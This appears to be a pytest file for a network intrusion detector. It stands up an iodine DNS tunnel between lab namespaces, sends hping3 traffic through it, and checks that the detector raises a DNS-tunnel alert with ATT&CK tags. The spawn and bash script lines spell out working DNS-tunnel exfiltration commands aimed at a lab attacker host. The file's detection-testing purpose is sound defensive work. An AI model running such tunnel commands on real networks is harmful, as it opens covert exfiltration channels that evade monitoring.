"""A real iodine DNS tunnel in the namespace lab, live and by replay.

iodined (the tunnel's name server) runs in the attacker's namespace; the iodine client runs in
the target namespace, where the daemon captures, and sends 200 pings of 300 bytes through the
tunnel (each becomes a query with an encoded random label). The daemon capturing there and
``vedette replay`` of the target-side pcap must both raise ``dns_tunnel_long_names`` with
``source`` = the tunnel client (the monitored server that acted: it sends the data out) and
no destination address (the rules group by the tunnel's domain, which the alert names), with
ATT&CK T1071 / T1071.004 (DNS) and T1048.
"""

from __future__ import annotations

import os
import shutil
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.network.toolrun import ATK, TGT, ToolLab, missing_tools

pytestmark = [pytest.mark.netns, pytest.mark.slow]

if os.geteuid() != 0:
    pytest.skip("the network lab needs root (namespaces, raw sockets)", allow_module_level=True)
if missing_tools() or not all(shutil.which(t) for t in ("iodine", "iodined", "hping3")):
    pytest.skip("lab tools, iodine, iodined or hping3 missing", allow_module_level=True)
if not Path("/dev/net/tun").exists():
    pytest.skip("no /dev/net/tun: iodine cannot create its tunnel", allow_module_level=True)

TUNNEL_SERVER = "198.19.53.1"  # iodined's end of the tunnel (inside the tunnel only)


@pytest.fixture(scope="module")
def tl(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ToolLab]:
    tl = ToolLab(tmp_path_factory.mktemp("iodine"))
    try:
        tl.up([])
        tl.lab.spawn("atk", "timeout", "120", "iodined", "-f", "-c", "-P", "vedette-lab",
                     TUNNEL_SERVER, "t.tunnel.test", log="iodined.log")
        time.sleep(0.5)
        yield tl
    finally:
        tl.down()


def test_iodine_tunnel_live_and_replayed(tl: ToolLab) -> None:
    log = tl.workdir / "iodine.log"
    script = (
        f"iodine -f -r -m 1024 -P vedette-lab {ATK} t.tunnel.test >{log} 2>&1 & pid=$!; "
        "for i in $(seq 100); do grep -q 'setup complete' " + str(log) + " && break; "
        "sleep 0.1; done; "
        f"hping3 -q --icmp -d 300 -i u20000 -c 200 {TUNNEL_SERVER}; kill $pid"
    )
    run = tl.record(TGT, "bash", "-c", script, role="tgt", timeout=60, settle=2.0)
    assert "setup complete" in log.read_text(errors="replace"), \
        log.read_text(errors="replace")[-1500:]
    live, replayed = run.compare(timeout=15)
    assert ("dns_tunnel_long_names", TGT, "") in replayed, replayed
    assert live == replayed
    assert {"T1071", "T1048"} <= run.techniques("dns_tunnel_long_names")
    techniques = [doc.get("threat", {}).get("technique", {}) for doc in tl.agent.alerts()]
    subtechniques = {sub for t in techniques for sub in t.get("subtechnique", {}).get("id", [])}
    assert "T1071.004" in subtechniques, tl.agent.alerts()[:1]
    # no alert turns the direction round (the tunnel's server is never the source)
    assert all(source == TGT for _, source, _ in replayed), replayed
    domains = {doc.get("dns", {}).get("question", {}).get("registered_domain")
               for doc in tl.agent.alerts() if doc.get("source", {}).get("ip") == TGT}
    assert domains == {"tunnel.test"}, domains
